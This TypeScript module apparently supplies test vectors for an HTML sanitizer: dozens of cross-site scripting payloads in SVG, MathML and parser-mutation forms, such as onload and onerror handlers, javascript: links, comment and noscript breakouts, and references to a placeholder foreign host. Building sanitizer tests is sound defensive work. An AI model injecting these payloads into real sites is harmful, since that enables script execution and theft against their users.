import { family, type Vector } from '../vector.ts';

/** Other namespaces, and markup that a second parser reads differently. */
export const MUTATIONS: readonly Vector[] = [
  ...family('SVG', [
    ['load of a drawing', '<svg onload=RUN>'],
    ['load behind slashes', '<svg///////onload=RUN>'],
    ['script of a drawing', '<svg><script>RUN</script></svg>'],
    [
      'script of a drawing by address',
      '<svg><script href="data:text/javascript,RUN"/><script xlink:href="//FOREIGN/s.js"/></svg>',
    ],
    ['script of a drawing with entities', '<svg><script>&#99;onsole.log(1)</script></svg>'],
    ['link of a drawing', '<svg><a href="javascript:RUN"><text x=9 y=20>press</text></a></svg>'],
    [
      'link of a drawing by xlink',
      '<svg><a xlink:href="javascript:RUN"><rect width=99 height=99 /></a></svg>',
    ],
    [
      'animated link',
      '<svg><a><animate attributeName=href values="javascript:RUN"/><text y=9>press</text></a></svg>',
    ],
    [
      'animated link by set',
      '<svg><a><set attributeName="xlink:href" to="javascript:RUN"/><text y=9>press</text></a></svg>',
    ],
    ['begin of an animation', '<svg><animate onbegin=RUN attributeName=x dur=1s><set onend=RUN></svg>'],
    [
      'use of another drawing',
      '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"/><use href="//FOREIGN/u.svg#x"/></svg>',
    ],
    [
      'picture in a drawing',
      '<svg><image href="//FOREIGN/i.png" onerror=RUN /><feImage href="//FOREIGN/f.png"/></svg>',
    ],
    [
      'filter, mask and pattern',
      '<svg><rect fill="url(//FOREIGN/p.svg#p)" mask="url(//FOREIGN/m.svg#m)" filter="url(//FOREIGN/f#f)"/></svg>',
    ],
    [
      'HTML in a drawing',
      '<svg><foreignObject><body onload=RUN><iframe src="javascript:RUN"></iframe></foreignObject></svg>',
    ],
    ['handler of a drawing', '<svg><handler ev:event="load">RUN</handler><discard onbegin=RUN /></svg>'],
    ['style of a drawing', '<svg><style>@import "//FOREIGN/s.css"; *{display:none}</style></svg>'],
    [
      'title of a drawing',
      '<svg><title><img src=x: onerror=RUN></title><desc><style></desc><img src=x: onerror=RUN></svg>',
      'hungry',
    ],
    ['CDATA of a drawing', '<svg><![CDATA[><img src=x: onerror=RUN>]]></svg>'],
    ['drawing in a drawing', '<svg><svg onload=RUN></svg><g onload=RUN></g></svg>'],
    [
      'camel case of a drawing',
      '<svg><FOREIGNOBJECT><ANIMATETRANSFORM ONBEGIN=RUN /></FOREIGNOBJECT></svg>',
      'hungry',
    ],
  ]),
  ...family('MathML', [
    ['link of a formula', '<math href="javascript:RUN">press</math>'],
    ['link of a formula by xlink', '<math><mi xlink:href="javascript:RUN">press</mi></math>'],
    [
      'status line of a formula',
      '<math><maction actiontype="statusline#http://FOREIGN" xlink:href="javascript:RUN">press</maction></math>',
    ],
    [
      'annotation of a formula',
      '<math><annotation-xml encoding="text/html"><img src=x: onerror=RUN></annotation-xml></math>',
    ],
    [
      'annotation with a script',
      '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>RUN</script></semantics></math>',
    ],
    ['a formula with a slash', '<math><mi//xlink:href="data:x,<script>RUN</script>"></math>'],
    [
      'a formula with a handler',
      '<math onfocus=RUN tabindex=1 autofocus><mtext onclick=RUN>x</mtext></math>',
    ],
  ]),
  ...family('mutation', [
    [
      'glyph in a table',
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
      'hungry',
    ],
    [
      'glyph in nested forms',
      '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=RUN>',
      'hungry',
    ],
    [
      'mark of alignment',
      '<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
      'hungry',
    ],
    ['style of a drawing and an id', '<svg></p><style><a id="</style><img src=x: onerror=RUN>">'],
    ['style of a formula and an id', '<math></br><style><a title="</style><img src=x: onerror=RUN>">'],
    ['paragraph in a drawing', '<svg></p><title><a id="</title><img src=x: onerror=RUN>"></title></svg>'],
    ['comment in a title of a drawing', '<svg><title><!--</title><img src=x: onerror=RUN>--></title></svg>'],
    ['style of a formula in a drawing', '<svg><math><style><img src=x: onerror=RUN></style></math></svg>'],
    [
      'a drawing in a foreign object',
      '<svg><foreignObject><math><style><!--</style><img title="--></style><img src=x: onerror=RUN>">',
      'hungry',
    ],
    [
      'a caption in a table',
      '<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x: onerror=RUN>"></svg></caption></table>',
    ],
    [
      'nested links',
      '<a href=#a><b><a href=#b><svg><style></a><img src=x: onerror=RUN></style></svg></b></a>',
    ],
    [
      'nested tables',
      '<table><tr><td><table><svg><a><style></table><img src=x: onerror=RUN></style></td></tr></table>',
    ],
    ['headings in one another', '<h1><svg><h2><style></h1><img src=x: onerror=RUN></style>'],
    ['formatting that is adopted', '<b><p><i><svg></b><style></p><img src=x: onerror=RUN></style></i>'],
    [
      'a form in a form',
      '<form id=a><div></form><form id=b><svg><style></form><img src=x: onerror=RUN></style></div>',
    ],
    [
      'deep nesting',
      `${'<div>'.repeat(520)}<svg><style><img src=x: onerror=RUN></style></svg>${'</div>'.repeat(520)}`,
    ],
    [
      'deep nesting in a formula',
      `<math>${'<mrow>'.repeat(520)}<mtext><style><img src=x: onerror=RUN></style></mtext></math>`,
    ],
    ['noscript and an attribute', '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>'],
    ['noscript and a comment', '<noscript><!--</noscript><img src=x: onerror=RUN>--></noscript>'],
    ['noscript and a style', '<noscript><style></noscript><img src=x: onerror=RUN></style></noscript>'],
    ['noembed and an attribute', '<noembed><p title="</noembed><img src=x: onerror=RUN>"></noembed>'],
    ['noframes and an attribute', '<noframes><p title="</noframes><img src=x: onerror=RUN>"></noframes>'],
    ['textarea and an attribute', '<textarea><p title="</textarea><img src=x: onerror=RUN>"></textarea>'],
    ['title and an attribute', '<title><p title="</title><img src=x: onerror=RUN>"></title>'],
    ['xmp and an attribute', '<xmp><p title="</xmp><img src=x: onerror=RUN>"></xmp>'],
    ['listing and an attribute', '<listing>\n<p title="</listing><img src=x: onerror=RUN>"></listing>'],
    ['frame and an attribute', '<iframe><p title="</iframe><img src=x: onerror=RUN>"></iframe>'],
    ['style and an attribute', '<style><p title="</style><img src=x: onerror=RUN>"></style>'],
    ['plaintext', '<plaintext><img src=x: onerror=RUN>', 'hungry'],
    ['select and a template', '<select><template><img src=x: onerror=RUN></template></select>'],
    ['select and a script', '<select><style></select><img src=x: onerror=RUN></style></select>'],
    [
      'select that shows its content',
      '<select><button><selectedcontent></selectedcontent></button><option><img src=x: onerror=RUN></select>',
    ],
    ['template', '<template><script>RUN</script><img src=x: onerror=RUN></template>'],
    [
      'template in a template',
      '<template><template><svg><style></template><img src=x: onerror=RUN></style></template></template>',
    ],
    [
      'template of a shadow',
      '<div><template shadowrootmode=open><img src=x: onerror=RUN><slot></slot></template>shown</div>',
    ],
    [
      'template of a closed shadow',
      '<p><template shadowrootmode="closed" shadowrootclonable><script>RUN</script></template>shown</p>',
    ],
    ['a comment that ends early', '<!--><img src=x: onerror=RUN>-->'],
    ['a comment that ends with a bang', '<!-- --!><img src=x: onerror=RUN> -->'],
    ['a comment that opens twice', '<!-- <!-- --><img src=x: onerror=RUN> -->'],
    ['a comment of an old browser', '<!--[if gte IE 4]><script>RUN</script><![endif]-->'],
    ['a comment that ends never', '<!-- <img src=x: onerror=RUN>', 'hungry'],
    ['a bogus comment', '</ ><img src=x: onerror=RUN><!x><img src=x: onerror=RUN>'],
    ['a comment in an attribute', '<p title="<!--">one</p><img title="--><img src=x: onerror=RUN>">'],
    ['CDATA in HTML', '<![CDATA[<!--]]><img src=x: onerror=RUN>-->'],
    ['CDATA with an early end', '<![CDATA[x]]>]]><img src=x: onerror=RUN>'],
    [
      'a processing instruction',
      '<?xml-stylesheet href="javascript:RUN"?><?php "?>" ?><img src=x: onerror=RUN>',
    ],
    ['a document type with a subset', '<!DOCTYPE x [<!ENTITY a "<img src=x: onerror=RUN>">]>&a;'],
    [
      'a whole second document',
      '</article></body></html><html><body onload=RUN><article><script>RUN</script>',
    ],
    ['a hidden end of the frame', '</article></iframe></div></main><img src=x: onerror=RUN>'],
  ]),
];
